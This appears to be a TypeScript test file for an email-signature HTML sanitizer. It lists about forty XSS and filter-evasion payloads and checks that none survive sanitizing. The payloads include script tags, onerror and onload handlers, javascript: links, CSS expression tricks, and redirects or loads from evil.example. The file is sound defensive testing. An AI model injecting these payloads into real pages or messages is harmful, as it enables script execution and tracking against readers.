import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { htmlToPlainText } from './html-to-plain-text.ts';
import { sanitizeSignature } from './sanitize-signature.ts';

/** Shapes of attack from OWASP's XSS filter evasion sheet, and what mail programs were caught by. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="http://tracker.example/p.gif">',
  '<img src="//evil.example/p.gif">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://evil.example/a 1x" src="https://a.example/a.png">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" target="_top">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><input name=q></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/p.gif)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%">x</p>',
  '<p style="color:expression(alert(1))">x</p>',
  '<p style="font-family:x;behavior:url(#default#time2)">x</p>',
  '<video><source onerror="alert(1)"></video>',
  '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<body onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<a href="/relative">x</a>',
];

describe('sanitizeSignature', () => {
  it.each(hostile)('leaves nothing that acts: %s', (html) => {
    const clean = sanitizeSignature(html);
    expect(dangersIn(clean)).toEqual([]);
    expect(sanitizeSignature(clean)).toBe(clean);
  });

  it('is not led astray by depth', () => {
    const clean = sanitizeSignature(`${'<div>'.repeat(10_000)}<img src=x onerror=alert(1)>`);
    expect(dangersIn(clean)).toEqual([]);
    expect(htmlToPlainText(clean)).toBe('');
  });

  it('keeps words, links, lists, looks and a logo', () => {
    const html =
      '<p><strong style="color:#123456">Ana</strong><br /><a href="https://ana.example" rel="noopener noreferrer">ana.example</a></p><ul><li>CTO</li></ul><img src="https://ana.example/logo.png" alt="Ana" width="80" />';
    expect(sanitizeSignature(html)).toBe(html);
  });

  it('says the same as text, with the address behind the words of a link', () => {
    const html =
      '<p><b>Ana Alves</b><br>CTO</p><p><a href="https://ana.example">my page</a> | <a href="https://b.example">https://b.example</a></p>';
    expect(htmlToPlainText(html)).toBe(
      'Ana Alves\nCTO\nmy page (https://ana.example) | https://b.example',
    );
  });
});

/** What a second parser finds in it that a signature may not hold. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  const tags = /^(?:p|br|div|span|a|strong|b|em|i|u|s|small|ul|ol|li|table|tbody|tr|td|img)$/;
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!tags.test(name)) found.push(name);
      for (const [key, value] of Object.entries(attributes)) {
        if (/^on|^srcset|^target/.test(key)) found.push(`${name} ${key}`);
        if (key === 'style' && /url|expression|position|behavior/i.test(value)) found.push(value);
        if (key === 'href' && !/^(?:https?:|mailto:|tel:)/.test(value)) found.push(value);
        if (key === 'src' && !value.startsWith('https://')) found.push(value);
      }
    },
    oncomment: () => void found.push('comment'),
  });
  parser.end(html);
  return found;
}
